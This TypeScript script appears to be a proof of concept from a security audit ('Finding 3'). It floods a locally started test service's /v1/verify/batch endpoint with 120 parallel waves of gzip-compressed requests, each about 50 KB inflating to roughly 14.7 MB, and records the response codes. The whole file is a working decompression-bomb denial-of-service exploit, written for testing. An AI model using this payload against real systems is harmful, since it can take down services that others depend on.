import { request } from 'node:http';
import { gzipSync } from 'node:zlib';
import { duringAttack, report, startTarget } from './harness.js';

/**
 * Finding 3: `ATTACK_PARALLEL` (default 120) parallel POST /v1/verify/batch, each a gzip of
 * about 50 KB inflating to about 14.7 MB of small objects, sent `ATTACK_WAVES` (default 5)
 * times over.
 */
const PARALLEL = Number(process.env.ATTACK_PARALLEL ?? 120);
const WAVES = Number(process.env.ATTACK_WAVES ?? 5);

const target = await startTarget();
const item = '{"k":1,"v":"ab"},';
const body = gzipSync(`{"envelopes":[${item.repeat(Math.floor(14_700_000 / item.length))}{}]}`, { level: 9 });
const { hostname, port } = new URL(target.server.url);
const statuses = new Map<number | string, number>();
const send = () =>
  new Promise<void>((resolve) => {
    const req = request(
      {
        host: hostname,
        port: Number(port),
        path: '/v1/verify/batch',
        method: 'POST',
        headers: {
          authorization: `Bearer ${target.attacker.key}`,
          'x-wallet-address': target.attacker.wallet,
          'content-type': 'application/json',
          'content-encoding': 'gzip',
          'content-length': body.length,
        },
      },
      (res) => {
        res.resume();
        res.on('end', () => (statuses.set(res.statusCode ?? 0, (statuses.get(res.statusCode ?? 0) ?? 0) + 1), resolve()));
      },
    );
    req.on('error', (err: NodeJS.ErrnoException) => (statuses.set(err.code ?? 'error', (statuses.get(err.code ?? 'error') ?? 0) + 1), resolve()));
    req.end(body);
  });
try {
  const figures = await duringAttack(target, async () => {
    for (let wave = 0; wave < WAVES; wave++) await Promise.all(Array.from({ length: PARALLEL }, send));
  });
  report('compressed batch', figures, { 'gzip bytes each': body.length, answers: JSON.stringify(Object.fromEntries(statuses)) });
} finally {
  await target.close();
}
